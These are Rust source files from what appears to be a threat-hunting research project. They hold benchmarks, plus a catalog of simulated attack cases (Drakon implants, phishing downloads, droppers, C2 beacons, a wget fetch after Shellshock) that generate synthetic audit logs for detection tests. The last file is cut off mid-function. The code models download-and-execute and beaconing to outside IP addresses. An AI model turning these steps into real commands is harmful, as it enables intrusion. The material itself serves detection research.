    });
    g.finish();
}

fn bench_single_pattern(c: &mut Criterion) {
    let spec = raptor_cases::catalog::case_by_id("tc_clearscope_3").unwrap();
    let eval = evaluate_case(spec, 1.0, 42);
    let v = query_variants(&eval);
    let mut g = c.benchmark_group("query_exec_single_pattern");
    g.sample_size(20);
    g.bench_function("tbql_scheduled", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("giant_sql", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::GiantSql).unwrap())
    });
    g.finish();
}

criterion_group!(benches, bench_variants, bench_single_pattern);
criterion_main!(benches);
