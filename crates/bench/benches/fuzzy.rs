//! Criterion benches for the fuzzy search mode (Table IX shape): provenance
//! graph construction, exhaustive (ThreatRaptor-Fuzzy) vs first-acceptable
//! (Poirot) alignment search.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_bench::caseval::evaluate_case;
use raptor_engine::fuzzy::{search, FuzzyConfig, QueryGraph};
use raptor_engine::provenance::build_from_stores;

fn bench_fuzzy(c: &mut Criterion) {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let eval = evaluate_case(spec, 0.5, 42);
    let q = raptor_tbql::parse_tbql(&eval.tbql).unwrap();
    let aq = raptor_tbql::analyze(&q).unwrap();
    let qg = QueryGraph::from_analyzed(&aq);
    let (prov, _) = build_from_stores(&eval.raptor.engine().stores).unwrap();

    let mut g = c.benchmark_group("fuzzy");
    g.sample_size(20);
    g.bench_function("provenance_build", |b| {
        b.iter(|| build_from_stores(std::hint::black_box(&eval.raptor.engine().stores)).unwrap())
    });
    g.bench_function("exhaustive", |b| {
        b.iter(|| search(&prov, &qg, &FuzzyConfig { exhaustive: true, ..Default::default() }))
    });
    g.bench_function("poirot_first_acceptable", |b| {
        b.iter(|| search(&prov, &qg, &FuzzyConfig { exhaustive: false, ..Default::default() }))
    });
    g.finish();
}

criterion_group!(benches, bench_fuzzy);
criterion_main!(benches);
