//! Criterion benches for the delta-incremental path plane: group
//! `path_delta_vs_full` pins the acceptance shape — the per-epoch *delta*
//! advance of a standing var-length path query stays near-flat as the
//! store grows (1x corpus vs ~15x scaled corpus), while the naive
//! alternative (a full scheduled re-evaluation of the path query at every
//! epoch boundary) grows with store size.
//!
//! * `ingest_only/{scale}` — the whole log streamed with no standing
//!   queries (the subtraction baseline),
//! * `delta_stream/{scale}` — ditto plus the var-length path query
//!   registered: every epoch pays one frontier advance. Subtract
//!   `ingest_only` and divide by the epoch count for the per-epoch delta
//!   latency — compare it across 1x → 15x,
//! * `full_reeval_per_epoch/{scale}` — one full `ExecMode::Scheduled`
//!   evaluation of the same path query over the fully loaded store: what
//!   each epoch would cost without the frontier.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_bench::corpus::{corpus_log, scaled_corpus_log};
use raptor_engine::exec::ExecMode;
use raptor_engine::load::load;
use raptor_engine::Engine;
use raptor_stream::{EpochPolicy, EpochStream, StreamSession};

const EPOCH: usize = 256;
const PATH_QUERY: &str = "proc p ~>(1~3)[read] file f as e1 return p, f";

fn bench_path_delta(c: &mut Criterion) {
    let logs = [("1x", corpus_log()), ("15x", scaled_corpus_log())];
    let mut g = c.benchmark_group("path_delta_vs_full");
    g.sample_size(10);
    for (scale, log) in &logs {
        let epochs = EpochStream::new(log, EpochPolicy::ByCount(EPOCH)).count();
        eprintln!(
            "path_delta_vs_full {scale}: {} entities, {} events, {} epochs of {EPOCH}",
            log.entities.len(),
            log.events.len(),
            epochs
        );

        g.bench_function(&format!("ingest_only/{scale}"), |b| {
            b.iter(|| {
                let mut session = StreamSession::new().unwrap();
                for batch in EpochStream::new(log, EpochPolicy::ByCount(EPOCH)) {
                    session.ingest_batch(&batch).unwrap();
                }
                session
            })
        });
        g.bench_function(&format!("delta_stream/{scale}"), |b| {
            b.iter(|| {
                let mut session = StreamSession::new().unwrap();
                session.register("path_hunt", PATH_QUERY).unwrap();
                let mut rows = 0usize;
                for batch in EpochStream::new(log, EpochPolicy::ByCount(EPOCH)) {
                    let report = session.ingest_batch(&batch).unwrap();
                    rows += report.deltas[0].delta.n_rows();
                }
                (session, rows)
            })
        });
        let engine = Engine::new(load(log).unwrap());
        g.bench_function(&format!("full_reeval_per_epoch/{scale}"), |b| {
            b.iter(|| {
                let (r, _) = engine.execute_text(PATH_QUERY, ExecMode::Scheduled).unwrap();
                r.rows.len()
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench_path_delta);
criterion_main!(benches);
