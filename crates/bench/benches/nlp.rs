//! Criterion benches for the NLP substrate: tokenization, tagging,
//! dependency parsing, lemmatization, n-gram similarity, Levenshtein.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_nlp::{dep, lemma, pos, sentence, tokenize, vector};

const SENT: &str =
    "The attacker used Something to read user credentials from Something and wrote the \
     gathered information to a file Something before connecting to Something.";

fn bench_nlp(c: &mut Criterion) {
    let mut g = c.benchmark_group("nlp");
    g.bench_function("tokenize", |b| b.iter(|| tokenize::tokenize(std::hint::black_box(SENT), 0)));
    g.bench_function("sentence_segment", |b| {
        let text = SENT.repeat(20);
        b.iter(|| sentence::segment(std::hint::black_box(&text)))
    });
    g.bench_function("pos_tag", |b| {
        let toks = tokenize::tokenize(SENT, 0);
        b.iter(|| {
            let mut t = toks.clone();
            pos::tag(&mut t);
            t
        })
    });
    g.bench_function("dep_parse", |b| {
        let mut toks = tokenize::tokenize(SENT, 0);
        pos::tag(&mut toks);
        b.iter(|| dep::parse(std::hint::black_box(&toks)))
    });
    g.bench_function("lemmatize", |b| {
        b.iter(|| {
            for w in ["wrote", "downloaded", "connecting", "executes", "ran"] {
                std::hint::black_box(lemma::lemmatize_verb(w));
            }
        })
    });
    g.bench_function("ngram_similarity", |b| {
        b.iter(|| vector::similarity("/tmp/upload.tar", "/tmp/upload.tar.bz2"))
    });
    g.bench_function("levenshtein", |b| {
        b.iter(|| raptor_common::strdist::levenshtein("/usr/bin/curl", "/usr/bin/cur1"))
    });
    g.finish();
}

criterion_group!(benches, bench_nlp);
criterion_main!(benches);
