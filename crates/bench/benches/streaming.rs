//! Criterion benches for the streaming subsystem: ingest throughput
//! (events/s — divide the event count by the reported mean) and per-epoch
//! detection latency on the data_leak workload, batch vs. streaming.
//!
//! * `bulk_load` — one-shot `load()` of the whole log (the batch baseline;
//!   same append path as streaming, minus epoch/registry overhead),
//! * `streaming_ingest` — the same log through `StreamSession` in
//!   64-event epochs, no standing queries (pure ingest),
//! * `streaming_ingest_detect` — ditto plus the case's synthesized TBQL
//!   registered as a standing query: every epoch pays its delta
//!   re-evaluation (subtracting `streaming_ingest` and dividing by the
//!   epoch count gives the per-epoch detection latency),
//! * `batch_redetect_per_epoch` — the naive alternative streaming must
//!   beat: re-executing the full scheduled query once per epoch boundary
//!   over the fully loaded store.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_bench::caseval::evaluate_case;
use raptor_engine::exec::ExecMode;
use raptor_stream::{EpochPolicy, EpochStream, StreamSession};

const EPOCH: usize = 64;

fn bench_streaming_ingest(c: &mut Criterion) {
    // The paper-scale workload, plus a 8x-noise one that shows the delta
    // crossover: per-epoch delta cost stays ~flat with store size while the
    // naive redetect grows with it.
    bench_at_scale(c, "streaming_ingest", 1.0);
    bench_at_scale(c, "streaming_ingest_8x", 8.0);
}

fn bench_at_scale(c: &mut Criterion, group: &str, noise_scale: f64) {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let eval = evaluate_case(spec, noise_scale, 42);
    let log = &eval.built.log;
    let tbql = eval.tbql.clone();
    let epochs = EpochStream::new(log, EpochPolicy::ByCount(EPOCH)).count();
    eprintln!(
        "{group} workload: {} entities, {} events, {} epochs of {EPOCH}",
        log.entities.len(),
        log.events.len(),
        epochs
    );

    let mut g = c.benchmark_group(group);
    g.sample_size(10);
    g.bench_function("bulk_load", |b| b.iter(|| raptor_engine::load::load(log).unwrap()));
    g.bench_function("streaming_ingest", |b| {
        b.iter(|| {
            let mut session = StreamSession::new().unwrap();
            for batch in EpochStream::new(log, EpochPolicy::ByCount(EPOCH)) {
                session.ingest_batch(&batch).unwrap();
            }
            session
        })
    });
    g.bench_function("streaming_ingest_detect", |b| {
        b.iter(|| {
            let mut session = StreamSession::new().unwrap();
            session.register("data_leak", &tbql).unwrap();
            let mut rows = 0usize;
            for batch in EpochStream::new(log, EpochPolicy::ByCount(EPOCH)) {
                let report = session.ingest_batch(&batch).unwrap();
                rows += report.deltas[0].delta.n_rows();
            }
            (session, rows)
        })
    });
    g.bench_function("batch_redetect_per_epoch", |b| {
        let engine = eval.raptor.engine();
        let aq = raptor_tbql::analyze(&raptor_tbql::parse_tbql(&tbql).unwrap()).unwrap();
        b.iter(|| {
            let mut rows = 0usize;
            for _ in 0..epochs {
                let (r, _) = engine.execute_batch(&aq, ExecMode::Scheduled).unwrap();
                rows = r.n_rows();
            }
            rows
        })
    });
    g.finish();
}

criterion_group!(benches, bench_streaming_ingest);
criterion_main!(benches);
