//! THEIA (Linux) cases.

use raptor_audit::sim::Simulator;
use raptor_extract::IocType::*;

use super::{burst_gap, download_file, scan_dir};
use crate::spec::CaseSpec;

fn th1_attack(sim: &mut Simulator) {
    let ff = sim.boot_process("/usr/lib/firefox", "admin");
    download_file(sim, ff, "141.43.176.203", 443, "/var/dropbear", 1);
    let _implant = sim.spawn(ff, "/var/dropbear", "dropbear");
    sim.exit(ff);
}

fn th2_attack(sim: &mut Simulator) {
    let tb = sim.boot_process("/usr/bin/thunderbird", "admin");
    // 57 download bursts: 57 network reads + 57 file writes.
    download_file(sim, tb, "198.115.236.119", 443, "/home/admin/profiles.tar.gz", 57);
    let gtar = sim.boot_process("/bin/gtar", "admin");
    sim.read_file(gtar, "/home/admin/profiles.tar.gz", 1_048_576, 8);
    sim.exit(gtar);
    sim.exit(tb);
}

fn th3_attack(sim: &mut Simulator) {
    let xpcom = sim.boot_process("/usr/lib/xpcom", "admin");
    sim.write_file(xpcom, "/home/admin/profile_ext", 131_072, 4);
    burst_gap(sim);
    let dropper = sim.boot_process("/home/admin/profile_ext", "admin");
    let fd = sim.connect(dropper, "141.43.176.8", 443);
    sim.recv(dropper, fd, 65_536, 4);
    sim.close(dropper, fd);
    burst_gap(sim);
    sim.write_file(dropper, "/var/log/mail", 65_536, 4);
    burst_gap(sim);
    let _implant = sim.spawn(dropper, "/var/log/mail", "mail");
    sim.exit(xpcom);
}

fn th4_attack(sim: &mut Simulator) {
    let tb = sim.boot_process("/usr/bin/thunderbird", "admin");
    sim.write_file(tb, "/home/admin/mailer_tool", 524_288, 8);
    burst_gap(sim);
    let tool = sim.boot_process("/home/admin/mailer_tool", "admin");
    // Document scraping: 420 reads under the scanned directory.
    scan_dir(sim, tool, "/home/admin/docs", 420);
    sim.exit(tool);
    sim.exit(tb);
}

pub static CASES: [CaseSpec; 4] = [
    CaseSpec {
        id: "tc_theia_1",
        name: "20180410 1400 THEIA - Firefox Backdoor w/ Drakon In-Memory",
        report: "/usr/lib/firefox fetched the Drakon implant /var/dropbear from \
141.43.176.203 and executed /var/dropbear.",
        gt_entities: &[
            ("/usr/lib/firefox", FilePath),
            ("/var/dropbear", FilePath),
            ("141.43.176.203", Ip),
        ],
        gt_relations: &[
            ("/usr/lib/firefox", "fetch", "/var/dropbear"),
            ("/usr/lib/firefox", "fetch", "141.43.176.203"),
            ("/var/dropbear", "fetch", "141.43.176.203"),
            ("/usr/lib/firefox", "execute", "/var/dropbear"),
        ],
        gt_events: &[
            ("/usr/lib/firefox", "write", "/var/dropbear"),
            ("/usr/lib/firefox", "read", "141.43.176.203"),
            ("/usr/lib/firefox", "execute", "/var/dropbear"),
        ],
        attack: th1_attack,
        noise_sessions: 260,
    },
    CaseSpec {
        id: "tc_theia_2",
        name: "20180410 1300 THEIA - Phishing Email w/ Link",
        report: "The victim followed the phishing e-mail link. /usr/bin/thunderbird \
downloaded the profile archive /home/admin/profiles.tar.gz from 198.115.236.119. \
/bin/gtar read from /home/admin/profiles.tar.gz.",
        gt_entities: &[
            ("/usr/bin/thunderbird", FilePath),
            ("/home/admin/profiles.tar.gz", FilePath),
            ("198.115.236.119", Ip),
            ("/bin/gtar", FilePath),
        ],
        gt_relations: &[
            ("/usr/bin/thunderbird", "download", "/home/admin/profiles.tar.gz"),
            ("/usr/bin/thunderbird", "download", "198.115.236.119"),
            ("/home/admin/profiles.tar.gz", "download", "198.115.236.119"),
            ("/bin/gtar", "read", "/home/admin/profiles.tar.gz"),
        ],
        gt_events: &[
            ("/usr/bin/thunderbird", "write", "/home/admin/profiles.tar.gz"),
            ("/usr/bin/thunderbird", "read", "198.115.236.119"),
            ("/bin/gtar", "read", "/home/admin/profiles.tar.gz"),
        ],
        attack: th2_attack,
        noise_sessions: 260,
    },
    CaseSpec {
        id: "tc_theia_3",
        name: "20180412 THEIA - Browser Extension w/ Drakon Dropper",
        report: "The extension host /usr/lib/xpcom wrote the dropper /home/admin/profile_ext. \
The dropper read the payload from 141.43.176.8. It wrote the implant /var/log/mail \
and launched /var/log/mail.",
        gt_entities: &[
            ("/usr/lib/xpcom", FilePath),
            ("/home/admin/profile_ext", FilePath),
            ("141.43.176.8", Ip),
            ("/var/log/mail", FilePath),
        ],
        gt_relations: &[
            ("/usr/lib/xpcom", "write", "/home/admin/profile_ext"),
            ("/home/admin/profile_ext", "read", "141.43.176.8"),
            ("/home/admin/profile_ext", "write", "/var/log/mail"),
            ("/home/admin/profile_ext", "launch", "/var/log/mail"),
        ],
        gt_events: &[
            ("/usr/lib/xpcom", "write", "/home/admin/profile_ext"),
            ("/home/admin/profile_ext", "read", "141.43.176.8"),
            ("/home/admin/profile_ext", "write", "/var/log/mail"),
            ("/home/admin/profile_ext", "start", "/var/log/mail"),
        ],
        attack: th3_attack,
        noise_sessions: 260,
    },
    CaseSpec {
        id: "tc_theia_4",
        name: "20180413 1400 THEIA - Phishing E-mail w/ Executable Attachment",
        report: "/usr/bin/thunderbird saved the executable attachment /home/admin/mailer_tool. \
The attacker used /home/admin/mailer_tool to scan /home/admin/docs.",
        gt_entities: &[
            ("/usr/bin/thunderbird", FilePath),
            ("/home/admin/mailer_tool", FilePath),
            ("/home/admin/docs", FilePath),
        ],
        gt_relations: &[
            ("/usr/bin/thunderbird", "save", "/home/admin/mailer_tool"),
            ("/home/admin/mailer_tool", "scan", "/home/admin/docs"),
        ],
        gt_events: &[
            ("/usr/bin/thunderbird", "write", "/home/admin/mailer_tool"),
            ("/home/admin/mailer_tool", "read", "/home/admin/docs"),
        ],
        attack: th4_attack,
        noise_sessions: 260,
    },
];
