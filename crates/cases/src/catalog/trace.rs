//! TRACE (Linux) cases.

use raptor_audit::sim::Simulator;
use raptor_extract::IocType::*;

use super::{burst_gap, download_file, fork_self};
use crate::spec::CaseSpec;

fn tr1_attack(sim: &mut Simulator) {
    let ff = sim.boot_process("/home/admin/firefox", "admin");
    // 19 download bursts: 19 network reads + 19 file writes.
    download_file(sim, ff, "145.199.103.57", 443, "/home/admin/cache", 19);
    // The implant starts (execute by firefox's child — not in the query's
    // reach), then re-execs itself once (the 1 execute event found) and
    // forks itself 37 times (the 37 process starts the query misses).
    let cache = sim.spawn(ff, "/home/admin/cache", "cache");
    burst_gap(sim);
    sim.exec(cache, "/home/admin/cache", "cache --respawn");
    burst_gap(sim);
    fork_self(sim, cache, 37);
    sim.exit(ff);
}

fn tr2_attack(sim: &mut Simulator) {
    let tb = sim.boot_process("/usr/bin/thunderbird", "admin");
    download_file(sim, tb, "208.75.117.48", 443, "/tmp/pine_backup.tar", 3);
    let gtar = sim.boot_process("/bin/gtar", "admin");
    sim.read_file(gtar, "/tmp/pine_backup.tar", 262_144, 4);
    sim.exit(gtar);
    sim.exit(tb);
}

fn tr3_attack(sim: &mut Simulator) {
    // Fork-only persistence: the synthesized execute-pattern finds nothing.
    let cache = sim.boot_process("/home/admin/.cache/gtcache", "admin");
    fork_self(sim, cache, 2);
}

fn tr4_attack(sim: &mut Simulator) {
    let pine = sim.boot_process("/usr/bin/pine", "admin");
    sim.write_file(pine, "/tmp/tcexec", 131_072, 4);
    burst_gap(sim);
    let tc = sim.spawn(pine, "/tmp/tcexec", "tcexec");
    fork_self(sim, tc, 1);
    // The C2 moved after the report was written: .143 instead of .128.
    let fd = sim.connect(tc, "61.167.39.143", 443);
    sim.send(tc, fd, 1_024, 2);
    sim.close(tc, fd);
    sim.exit(pine);
}

fn tr5_attack(sim: &mut Simulator) {
    let tb = sim.boot_process("/usr/bin/thunderbird", "admin");
    sim.write_file(tb, "/home/admin/executable_attach", 262_144, 4);
    burst_gap(sim);
    let tool = sim.boot_process("/home/admin/executable_attach", "admin");
    super::scan_dir(sim, tool, "/home/admin/shared", 577);
    sim.exit(tool);
    sim.exit(tb);
}

pub static CASES: [CaseSpec; 5] = [
    CaseSpec {
        id: "tc_trace_1",
        name: "20180410 1000 TRACE - Firefox Backdoor w/ Drakon In-Memory",
        report: "/home/admin/firefox fetched the implant /home/admin/cache from \
145.199.103.57. The attacker then used /home/admin/cache to run /home/admin/cache.",
        gt_entities: &[
            ("/home/admin/firefox", FilePath),
            ("/home/admin/cache", FilePath),
            ("145.199.103.57", Ip),
        ],
        gt_relations: &[
            ("/home/admin/firefox", "fetch", "/home/admin/cache"),
            ("/home/admin/firefox", "fetch", "145.199.103.57"),
            ("/home/admin/cache", "fetch", "145.199.103.57"),
            ("/home/admin/cache", "run", "/home/admin/cache"),
        ],
        gt_events: &[
            ("/home/admin/firefox", "write", "/home/admin/cache"),
            ("/home/admin/firefox", "read", "145.199.103.57"),
            ("/home/admin/cache", "execute", "/home/admin/cache"),
            ("/home/admin/cache", "start", "/home/admin/cache"),
        ],
        attack: tr1_attack,
        noise_sessions: 300,
    },
    CaseSpec {
        id: "tc_trace_2",
        name: "20180410 1200 TRACE - Phishing E-mail Link",
        report: "The victim opened the phishing e-mail link. /usr/bin/thunderbird \
downloaded the archive /tmp/pine_backup.tar from 208.75.117.48. /bin/gtar read \
from /tmp/pine_backup.tar.",
        gt_entities: &[
            ("/usr/bin/thunderbird", FilePath),
            ("/tmp/pine_backup.tar", FilePath),
            ("208.75.117.48", Ip),
            ("/bin/gtar", FilePath),
        ],
        gt_relations: &[
            ("/usr/bin/thunderbird", "download", "/tmp/pine_backup.tar"),
            ("/usr/bin/thunderbird", "download", "208.75.117.48"),
            ("/tmp/pine_backup.tar", "download", "208.75.117.48"),
            ("/bin/gtar", "read", "/tmp/pine_backup.tar"),
        ],
        gt_events: &[
            ("/usr/bin/thunderbird", "write", "/tmp/pine_backup.tar"),
            ("/usr/bin/thunderbird", "read", "208.75.117.48"),
            ("/bin/gtar", "read", "/tmp/pine_backup.tar"),
        ],
        attack: tr2_attack,
        noise_sessions: 300,
    },
    CaseSpec {
        id: "tc_trace_3",
        name: "20180412 1300 TRACE - Browser Extension w/ Drakon Dropper",
        report: "The rogue extension used /home/admin/.cache/gtcache to run \
/home/admin/.cache/gtcache.",
        gt_entities: &[("/home/admin/.cache/gtcache", FilePath)],
        gt_relations: &[("/home/admin/.cache/gtcache", "run", "/home/admin/.cache/gtcache")],
        gt_events: &[("/home/admin/.cache/gtcache", "start", "/home/admin/.cache/gtcache")],
        attack: tr3_attack,
        noise_sessions: 300,
    },
    CaseSpec {
        id: "tc_trace_4",
        name: "20180413 1200 TRACE - Pine Backdoor w/ Drakon Dropper",
        report: "/usr/bin/pine dropped the loader /tmp/tcexec. The attacker used \
/tmp/tcexec to run /tmp/tcexec. /tmp/tcexec beaconed to 61.167.39.128.",
        gt_entities: &[
            ("/usr/bin/pine", FilePath),
            ("/tmp/tcexec", FilePath),
            ("61.167.39.128", Ip),
        ],
        gt_relations: &[
            ("/usr/bin/pine", "drop", "/tmp/tcexec"),
            ("/tmp/tcexec", "run", "/tmp/tcexec"),
            ("/tmp/tcexec", "beacon", "61.167.39.128"),
        ],
        gt_events: &[
            ("/usr/bin/pine", "write", "/tmp/tcexec"),
            ("/tmp/tcexec", "start", "/tmp/tcexec"),
            ("/tmp/tcexec", "connect", "61.167.39.143"),
        ],
        attack: tr4_attack,
        noise_sessions: 300,
    },
    CaseSpec {
        id: "tc_trace_5",
        name: "20180413 1400 TRACE - Phishing E-mail w/ Executable Attachment",
        report: "/usr/bin/thunderbird saved the executable attachment \
/home/admin/executable_attach. The attacker used /home/admin/executable_attach \
to scan /home/admin/shared.",
        gt_entities: &[
            ("/usr/bin/thunderbird", FilePath),
            ("/home/admin/executable_attach", FilePath),
            ("/home/admin/shared", FilePath),
        ],
        gt_relations: &[
            ("/usr/bin/thunderbird", "save", "/home/admin/executable_attach"),
            ("/home/admin/executable_attach", "scan", "/home/admin/shared"),
        ],
        gt_events: &[
            ("/usr/bin/thunderbird", "write", "/home/admin/executable_attach"),
            ("/home/admin/executable_attach", "read", "/home/admin/shared"),
        ],
        attack: tr5_attack,
        noise_sessions: 300,
    },
];
