//! The case catalog (Table IV).

pub mod clearscope;
pub mod custom;
pub mod fivedirections;
pub mod theia;
pub mod trace;

use raptor_audit::sim::{Pid, Simulator};
use raptor_common::time::Duration;

use crate::spec::CaseSpec;

/// All 18 benchmark cases, in Table IV order.
pub fn all_cases() -> Vec<&'static CaseSpec> {
    let mut v: Vec<&'static CaseSpec> = Vec::new();
    v.extend(clearscope::CASES.iter());
    v.extend(fivedirections::CASES.iter());
    v.extend(theia::CASES.iter());
    v.extend(trace::CASES.iter());
    v.extend(custom::CASES.iter());
    v
}

/// Looks a case up by id.
pub fn case_by_id(id: &str) -> Option<&'static CaseSpec> {
    all_cases().into_iter().find(|c| c.id == id)
}

// --- shared attack-script helpers ---

/// Long-enough gap to defeat the 1 s data-reduction merge, so consecutive
/// actions on the same entity pair stay separate events.
pub(crate) fn burst_gap(sim: &mut Simulator) {
    sim.advance(Duration::from_millis(1_500));
}

/// Connects once, then downloads `bursts` chunks (one read event each) and
/// writes them to `out` (one write event each).
pub(crate) fn download_file(
    sim: &mut Simulator,
    p: Pid,
    ip: &str,
    port: u16,
    out: &str,
    bursts: usize,
) {
    let fd = sim.connect(p, ip, port);
    for _ in 0..bursts {
        sim.recv(p, fd, 65_536, 4);
        burst_gap(sim);
        sim.write_file(p, out, 65_536, 4);
        burst_gap(sim);
    }
    sim.close(p, fd);
}

/// Reads `n` distinct files under `dir` (one read event each).
pub(crate) fn scan_dir(sim: &mut Simulator, p: Pid, dir: &str, n: usize) {
    for i in 0..n {
        sim.read_file(p, &format!("{dir}/f{i:04}.dat"), 4_096, 1);
    }
}

/// Forks `p` `n` times without exec (fork-only process starts — the events
/// the `run`-ambiguity cases lose).
pub(crate) fn fork_self(sim: &mut Simulator, p: Pid, n: usize) {
    for _ in 0..n {
        let _child = sim.fork(p);
        burst_gap(sim);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eighteen_cases_with_unique_ids() {
        let cases = all_cases();
        assert_eq!(cases.len(), 18);
        let mut ids: Vec<&str> = cases.iter().map(|c| c.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 18);
        assert!(case_by_id("data_leak").is_some());
        assert!(case_by_id("nope").is_none());
    }

    #[test]
    fn every_case_has_report_and_ground_truth() {
        for c in all_cases() {
            assert!(!c.report.is_empty(), "{}", c.id);
            assert!(!c.gt_entities.is_empty(), "{}", c.id);
            assert!(!c.gt_relations.is_empty(), "{}", c.id);
            assert!(!c.gt_events.is_empty(), "{}", c.id);
        }
    }

    #[test]
    fn reports_scan_to_the_gold_entities() {
        // Every gold entity must be recognizable by the IOC scanner.
        for c in all_cases() {
            let found = raptor_extract::scan_iocs(c.report);
            for (text, ty) in c.gt_entities {
                assert!(
                    found.iter().any(|m| m.text == *text && m.ioc_type == *ty),
                    "{}: gold entity {text} ({ty:?}) not scanned; found {:?}",
                    c.id,
                    found.iter().map(|m| (&m.text, m.ioc_type)).collect::<Vec<_>>()
                );
            }
        }
    }
}
