//! FiveDirections (Windows) cases.

use raptor_audit::sim::Simulator;
use raptor_extract::IocType::*;

use super::{burst_gap, download_file, fork_self, scan_dir};
use crate::spec::CaseSpec;

fn fd1_attack(sim: &mut Simulator) {
    let excel = sim.boot_process(r"C:\Program Files\Microsoft\excel.exe", "victim");
    // The macro drops the loader and executes it.
    sim.write_file(excel, r"C:\Users\victim\AppData\tmpx.exe", 262_144, 8);
    burst_gap(sim);
    let loader = sim.spawn(excel, r"C:\Users\victim\AppData\tmpx.exe", "tmpx.exe");
    // The loader scans the documents folder: 49 reads.
    scan_dir(sim, loader, r"C:\Users\victim\Documents", 49);
    sim.exit(loader);
    sim.exit(excel);
}

fn fd2_attack(sim: &mut Simulator) {
    let ff = sim.boot_process(r"C:\Program Files\Mozilla\firefox.exe", "victim");
    download_file(sim, ff, "161.116.88.72", 443, r"C:\Users\victim\AppData\drakon.exe", 1);
    let _implant = sim.spawn(ff, r"C:\Users\victim\AppData\drakon.exe", "drakon.exe");
    sim.exit(ff);
}

fn fd3_attack(sim: &mut Simulator) {
    // IOC drift: the live host capitalizes `Victim` and the C2 moved to
    // .31, so the exact-search query (built from the report) misses
    // everything — the paper's 0/3 row.
    let ext = sim.boot_process(r"C:\Program Files\browser\nativemsg.exe", "victim");
    download_file(sim, ext, "131.239.148.31", 443, r"C:\Users\Victim\pass_mgr.exe", 1);
    let dropper = sim.spawn(ext, r"C:\Users\Victim\pass_mgr.exe", "pass_mgr.exe");
    // Fork-only persistence: 2 process starts the execute-pattern misses.
    fork_self(sim, dropper, 2);
    sim.exit(ext);
}

pub static CASES: [CaseSpec; 3] = [
    CaseSpec {
        id: "tc_fivedirections_1",
        name: "20180409 1500 FiveDirections - Phishing E-mail w/ Excel Macro",
        report: r"The victim opened the malicious Excel attachment from the phishing e-mail.
excel.exe dropped the loader C:\Users\victim\AppData\tmpx.exe and executed
C:\Users\victim\AppData\tmpx.exe. The loader scanned C:\Users\victim\Documents for files.",
        gt_entities: &[
            ("excel.exe", FileName),
            (r"C:\Users\victim\AppData\tmpx.exe", WinFilePath),
            (r"C:\Users\victim\Documents", WinFilePath),
        ],
        gt_relations: &[
            ("excel.exe", "drop", r"C:\Users\victim\AppData\tmpx.exe"),
            ("excel.exe", "execute", r"C:\Users\victim\AppData\tmpx.exe"),
            (r"C:\Users\victim\AppData\tmpx.exe", "scan", r"C:\Users\victim\Documents"),
        ],
        gt_events: &[
            ("excel.exe", "write", r"C:\Users\victim\AppData\tmpx.exe"),
            ("excel.exe", "execute", r"C:\Users\victim\AppData\tmpx.exe"),
            (r"C:\Users\victim\AppData\tmpx.exe", "read", r"C:\Users\victim\Documents"),
        ],
        attack: fd1_attack,
        noise_sessions: 220,
    },
    CaseSpec {
        id: "tc_fivedirections_2",
        name: "20180411 1000 FiveDirections - Firefox Backdoor w/ Drakon In-Memory",
        report: r"firefox.exe fetched the Drakon implant C:\Users\victim\AppData\drakon.exe
from 161.116.88.72 and executed C:\Users\victim\AppData\drakon.exe.",
        gt_entities: &[
            ("firefox.exe", FileName),
            (r"C:\Users\victim\AppData\drakon.exe", WinFilePath),
            ("161.116.88.72", Ip),
        ],
        gt_relations: &[
            ("firefox.exe", "fetch", r"C:\Users\victim\AppData\drakon.exe"),
            ("firefox.exe", "fetch", "161.116.88.72"),
            (r"C:\Users\victim\AppData\drakon.exe", "fetch", "161.116.88.72"),
            ("firefox.exe", "execute", r"C:\Users\victim\AppData\drakon.exe"),
        ],
        gt_events: &[
            ("firefox.exe", "write", r"C:\Users\victim\AppData\drakon.exe"),
            ("firefox.exe", "read", "161.116.88.72"),
            ("firefox.exe", "execute", r"C:\Users\victim\AppData\drakon.exe"),
        ],
        attack: fd2_attack,
        noise_sessions: 220,
    },
    CaseSpec {
        id: "tc_fivedirections_3",
        name: "20180412 1100 FiveDirections - Browser Extension w/ Drakon Dropper",
        report: r"The malicious browser extension used nativemsg.exe to retrieve the Drakon
dropper C:\Users\victim\pass_mgr.exe from 131.239.148.30. pass_mgr.exe then ran
pass_mgr.exe to maintain persistence.",
        gt_entities: &[
            ("nativemsg.exe", FileName),
            (r"C:\Users\victim\pass_mgr.exe", WinFilePath),
            ("131.239.148.30", Ip),
            ("pass_mgr.exe", FileName),
        ],
        gt_relations: &[
            ("nativemsg.exe", "retrieve", r"C:\Users\victim\pass_mgr.exe"),
            ("nativemsg.exe", "retrieve", "131.239.148.30"),
            (r"C:\Users\victim\pass_mgr.exe", "retrieve", "131.239.148.30"),
            ("pass_mgr.exe", "run", "pass_mgr.exe"),
        ],
        gt_events: &[
            ("nativemsg.exe", "write", "pass_mgr.exe"),
            ("pass_mgr.exe", "start", "pass_mgr.exe"),
        ],
        attack: fd3_attack,
        noise_sessions: 200,
    },
];
