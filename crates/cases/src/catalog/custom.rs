//! The three multi-step intrusive attacks the paper performed itself
//! (Cyber Kill Chain + CVE based): password cracking and data leakage after
//! Shellshock penetration, and VPNFilter.

use raptor_audit::sim::Simulator;
use raptor_extract::IocType::*;

use super::{burst_gap, fork_self};
use crate::spec::CaseSpec;

fn password_crack_attack(sim: &mut Simulator) {
    let shell = sim.boot_process("/bin/bash", "www-data");
    // Dropbox image with the C2 address in its EXIF metadata.
    let wget = sim.spawn(shell, "/usr/bin/wget", "wget https://dropbox/photo.jpg");
    let fd = sim.connect(wget, "162.125.6.6", 443);
    sim.recv(wget, fd, 262_144, 4);
    sim.close(wget, fd);
    burst_gap(sim);
    sim.write_file(wget, "/tmp/photo.jpg", 262_144, 4);
    sim.exit(wget);
    burst_gap(sim);
    let exif = sim.spawn(shell, "/usr/bin/exif", "exif /tmp/photo.jpg");
    sim.read_file(exif, "/tmp/photo.jpg", 262_144, 2);
    sim.exit(exif);
    burst_gap(sim);
